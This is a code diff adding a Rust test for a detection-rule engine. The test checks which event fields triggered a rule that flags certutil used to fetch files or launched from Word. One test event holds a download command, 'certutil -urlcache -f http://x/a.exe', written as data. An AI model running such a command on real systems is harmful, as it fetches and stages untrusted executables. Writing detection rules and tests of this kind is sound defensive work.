@@ -352,3 +352,24 @@ fn filters_and_their_condition_onto_the_named_rules() {
         "log source must match"
     );
 }
+
+#[test]
+fn matched_fields_name_what_made_the_match_and_not_the_filters() {
+    let r = rule(
+        "  sel_img:\n    Image|endswith: '\\\\certutil.exe'\n  sel_cli:\n    - CommandLine|contains: urlcache\n    - ParentImage|endswith: '\\\\winword.exe'\n  filter:\n    User: SYSTEM\n  condition: sel_img and 1 of sel_cli* and not filter",
+    );
+    let e = event(json!({
+        "Image": "C:\\Windows\\System32\\certutil.exe",
+        "CommandLine": "certutil -urlcache -f http://x/a.exe",
+        "ParentImage": "C:\\Windows\\explorer.exe",
+        "User": "alice"
+    }));
+    // The second alternative of sel_cli did not match, and the filter only keeps events out.
+    assert_eq!(r.matched_fields(&e), vec!["CommandLine", "Image"]);
+    let filtered = event(json!({
+        "Image": "C:\\Windows\\System32\\certutil.exe",
+        "CommandLine": "certutil -urlcache",
+        "User": "SYSTEM"
+    }));
+    assert!(r.matched_fields(&filtered).is_empty());
+}
